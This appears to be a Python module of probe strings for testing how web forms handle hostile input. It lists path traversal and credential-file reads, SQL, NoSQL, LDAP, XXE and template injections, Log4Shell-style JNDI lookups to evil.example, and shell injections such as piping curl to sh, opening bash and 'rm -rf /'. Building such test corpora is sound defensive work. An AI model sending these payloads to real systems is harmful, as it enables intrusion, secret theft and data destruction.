"""What scanners send to find a parser, a store or a file system behind a form; our own writing."""

PATHS = r"""
../../../../etc/passwd
..\..\..\windows\win.ini
%2e%2e%2f%2e%2e%2fetc%2fpasswd
%252e%252e%252fetc%252fshadow
..%2f..%2fetc/hosts
....//....//etc/passwd
..;/admin/../secret
/static/../settings.py
/var/www/../../etc/group
a/../../b
..%5c..%5cboot.ini
file:///etc/passwd
file:///c:/windows/system32/drivers/etc/hosts
php://filter/convert.base64-encode/resource=index
phar://upload/a.jpg
gopher://127.0.0.1:6379/_INFO
dict://127.0.0.1:11211/stats
/proc/self/environ
/proc/version
/.git/config
/.git/HEAD
/.env
/.svn/entries
/.aws/credentials
/.ssh/id_rsa
/.htaccess
/.DS_Store
/wp-login.php
/wp-admin/setup.php
/wp-content/plugins/x
/xmlrpc.php
/phpmyadmin/index.php
/cgi-bin/test.cgi
/WEB-INF/web.xml
/index.php?page=../../config
/backup.sql
/db.bak
/config.old
/shell.jsp
/admin.aspx
/server-status
/actuator/env
http://169.254.169.254/latest/meta-data/
http://metadata.google.internal/computeMetadata/v1/
C:\Windows\System32\cmd.exe
\\server\share\..\..\secret
/var/log/auth.log
/home/user/.ssh/authorized_keys
/root/.bashrc
..%00/..%00/etc/passwd
""".strip().split("\n")

SQL = r"""
' OR '1'='1
' or 1=1--
" OR ""="
') OR ('1'='1
1 OR 1=1
1' AND '1'='2
admin'--
admin' #
admin'/*
' OR 'a'='a' --
x' OR name LIKE '%a%
1; DROP TABLE users
1; DELETE FROM users
'; DROP TABLE templates; --
'; EXEC xp_cmdshell('dir'); --
'; SHUTDOWN; --
1 UNION SELECT 1,2,3
' UNION ALL SELECT NULL,NULL--
1 UNION/**/SELECT/**/password/**/FROM/**/users
-1' UNION SELECT @@version --
1 union (select 1)
' AND 1=(SELECT COUNT(*) FROM tabname); --
' AND SLEEP(5)#
1 AND SLEEP(5)
1; WAITFOR DELAY '0:0:5'--
1) WAITFOR TIME '10:00'
'; SELECT pg_sleep(5)--
1 OR BENCHMARK(1000000,MD5(1))
' || (SELECT version()) || '
' || 'a'='a
'+'a
1 ORDER BY 10--
1 GROUP BY x HAVING 1=1
' HAVING 1=1--
1 AND EXTRACTVALUE(1,CONCAT(0x7e,version()))
1 AND UPDATEXML(1,2,3)
SELECT * FROM information_schema.tables
SELECT name FROM sqlite_master
SELECT id, email FROM users
select count(*) from templates
' INTO OUTFILE '/tmp/x'
1 AND ASCII(SUBSTRING(user(),1,1))>64 --
1 AND (SELECT 1 FROM dual)=1 or true--
1/*!50000UNION*//*!50000SELECT*/ 1
%27%20OR%201%3D1--%20
%2527%2520or%25201=1--
1 and char(65)=char(65)
INSERT INTO users VALUES (1)
UPDATE users SET role='admin'
DELETE FROM sessions
1';DECLARE @x varchar(9);--
' or ''='
1 or not 1=2 --
0 or exists(select 1)
1; attach database 'x' as y
load_extension('x')
""".strip().split("\n")

NOSQL = r"""
{"$ne": null}
{"$gt": ""}
{"$regex": "^a"}
{"$where": "this.a == 1"}
{"$or": [{}, {"a": 1}]}
{"email": {"$in": ["a"]}}
{"$func": "var_dump"}
{"$expr": {"$eq": [1, 1]}}
[$ne]=1
user[$gt]=
email[$regex]=.*
$where=1
$ne
'; return true; var a='
1'; return true;}//
this.password == 'a'
this.role.match(/.*/)
' || '1'=='1
' && this.a != 'b
db.users.find()
db.injection.insert()
{"__proto__": {"admin": true}}
__proto__[admin]=1
constructor[prototype][admin]=1
constructor.prototype.admin
attribute_exists(password)
attribute_not_exists(id) OR begins_with(id, :a)
{"AttributeValueList": [], "ComparisonOperator": "GT"}
*)(uid=*))(|(uid=*
admin)(&)
*)(objectClass=*
)(|(password=*)
(|(cn=*))
<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>
<!ENTITY % b SYSTEM "http://evil.example/x.dtd">
{"$lookup": {"from": "users"}}
{"$jsonSchema": {}}
,$where:1
""".strip().split("\n")

TEMPLATES = r"""
{{7*7}}
{{ 7 * '7' }}
{{ 9-1 }}
${7*7}
#{7*7}
*{7*7}
@{7*7}
~{x}
${{7*7}}
<%= 7*7 %>
<%@ include file="x" %>
<#assign x="freemarker.template.utility.Execute"?new()>
#set($x = 7)
{php}echo 1;{/php}
{{= 7 }}
{{config}}
{{ config.items() }}
{{self.__init__.__globals__}}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{request.application.__globals__}}
{{ cycler.__init__.__globals__.os }}
{{ lipsum.__globals__ }}
{{ joiner }}
{{ namespace() }}
{{ url_for.__globals__ }}
{{ get_flashed_messages.__globals__ }}
{{ settings.SECRET_KEY }}
{{ _self.env.display("x") }}
{{ app.request.server }}
{{ constructor.constructor('x')() }}
{{$on.constructor('x')()}}
{{ process.env }}
{{ system('id') }}
{{#with "s" as |string|}}
{% import os %}
{% include '/etc/passwd' %}
{% load log %}
{% debug %}
{% extends "x" %}
{% set x = 1 %}
{% from x import y %}
{% python %}
${jndi:ldap://evil.example/a}
${${lower:j}ndi:rmi://evil.example/a}
${env:AWS_SECRET_ACCESS_KEY}
${::-j}
T(java.lang.Runtime).getRuntime()
${T(java.lang.System).getenv()}
@java.lang.Runtime@getRuntime()
#this.getClass()
__import__('os').system('id')
().__class__.__bases__[0]
{{range.constructor("x")()}}
[[${7*7}]]
@(7*7)
""".strip().split("\n")

COMMANDS = r"""
; cat /etc/passwd
| id
|| whoami
&& ls -la
`id`
$(whoami)
$(cat /etc/passwd)
; sleep 5
& ping -c 1 evil.example &
| nslookup evil.example
; wget http://evil.example/x
; curl evil.example | sh
;id;
|uname -a
() { :;}; /bin/bash -c id
/bin/sh -c id
;bash -i
cmd.exe /c dir
powershell -enc AAAA
;cat$IFS/etc/passwd
a%0aid%0a
x%0d%0aSet-Cookie: a=b
x%0d%0aLocation: http://evil.example
x%0d%0aContent-Length: 0
; env
; rm -rf /
""".strip().split("\n")

PROBES = {
    "path": PATHS,
    "sql": SQL,
    "nosql": NOSQL,
    "template": TEMPLATES,
    "command": COMMANDS,
}
